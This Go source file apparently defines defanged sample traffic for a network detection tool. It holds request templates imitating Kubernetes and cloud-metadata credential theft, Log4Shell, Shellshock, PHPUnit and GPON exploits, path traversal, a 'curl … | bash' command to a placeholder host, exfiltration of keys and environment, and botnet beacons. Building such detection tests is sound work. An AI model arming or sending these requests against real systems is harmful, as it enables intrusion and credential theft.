package main

import "net/http"

// stranger is where all of them go, as a host that has no name.
const stranger = "http://198.51.100.7"

// calls are those that only ask or send. The attacks among them are marks of what was
// described in public: what they name runs nothing and is nowhere.
var calls = map[string][]call{
	// Secrets of clusters and clouds.
	"cluster-secrets":      {{method: http.MethodGet, url: "https://kubernetes.default.svc/api/v1/secrets"}},
	"cluster-rights":       {{method: http.MethodPost, url: "https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", body: `{"kind":"SelfSubjectRulesReview","spec":{"namespace":"default"}}`}},
	"cluster-store":        {{method: http.MethodPost, url: "http://etcd.default.svc:2379/v3/kv/range", body: `{"key":"L3JlZ2lzdHJ5L3NlY3JldHM="}`}},
	"metadata-credentials": {{method: http.MethodGet, url: "http://169.254.169.254/latest/meta-data/iam/security-credentials/app", headers: []string{"User-Agent", "curl/8.5.0"}}},
	"own-address":          {{method: http.MethodGet, url: "https://api.ipify.org/"}},

	// Attacks on others.
	"host-mount":       {{method: http.MethodPost, url: "http://engine.example:2375/v1.41/containers/create", body: `{"Image":"nobody.invalid/none","HostConfig":{"Binds":["/:/mnt"]}}`}},
	"cluster-workload": {{method: http.MethodPost, url: "https://kubernetes.default.svc/apis/apps/v1/namespaces/default/daemonsets", body: `{"kind":"DaemonSet","spec":{"template":{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`}},
	"kubelet-command":  {{method: http.MethodPost, url: "https://node.example:10250/run/default/none/none", body: "cmd=true"}},
	"job-server": {
		{method: http.MethodPost, url: "http://jobs.example:8080/script", body: "script=println+%22none%22.execute().text"},
		{method: http.MethodPost, url: "http://jobs.example:8088/ws/v1/cluster/apps", body: `{"am-container-spec":{"commands":{"command":"curl http://nobody.invalid/x | bash"}}}`},
	},
	"jndi-request":   {{method: http.MethodGet, url: "http://java.example/", headers: []string{"User-Agent", "${jndi:ldap://nobody.invalid/none}"}}},
	"web-exploit":    {{method: http.MethodPost, url: "http://php.example/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", body: "<?php"}, {method: http.MethodGet, url: "http://cgi.example/status", headers: []string{"User-Agent", "() { :;}; true"}}},
	"path-traversal": {{method: http.MethodGet, url: "http://files.example/download?file=../../../../etc/passwd"}},
	"device-exploit": {{method: http.MethodPost, url: "http://router.example/GponForm/diag_Form?images/", body: "XWebPageName=diag&dest_host=`true`"}},

	// What should not leave.
	"secrets-in-clear": {{method: http.MethodPost, url: "http://collector.example/u", body: "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-key\n-----END OPENSSH PRIVATE KEY-----\n"}},
	"environment":      {{method: http.MethodPost, url: "http://collector.example/u", body: "HOSTNAME=none\nHOME=/root\nPATH=/usr/bin\n"}},
	"chat-file":        {{method: http.MethodPost, url: "https://discord.com/api/webhooks/1/none", body: "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"none.tar.gz\"\r\n\r\nnothing\r\n--b--\r\n", headers: []string{"Content-Type", "multipart/form-data; boundary=b"}}},
	"code-repository":  {{method: http.MethodPost, url: "https://git.example/a/b.git/git-receive-pack", body: "0000"}},

	// Who is told what to do.
	"anonymous-network": {{method: http.MethodGet, url: "https://reseed.example/i2pseeds.su3"}},
	"bot-report":        {{method: http.MethodPost, url: stranger + "/api/register", body: `{"bot_id":"none","hostname":"none","os":"linux"}`}},
	"chat-service":      {{method: http.MethodGet, url: "https://api.telegram.org/bot1:none/getMe"}},
	"dead-drop":         {{method: http.MethodGet, url: "https://pastebin.com/raw/none"}},
	"framework-request": {{method: http.MethodPost, url: stranger + "/submit.php?id=48213", body: "nothing"}},
	"profile-drop":      {{method: http.MethodGet, url: "https://t.me/none_of_us"}},
	"xmrig":             {{method: http.MethodGet, url: "http://panel.example/client", headers: []string{"User-Agent", "XMRig/6.21.0 (look-alike)"}}},
}
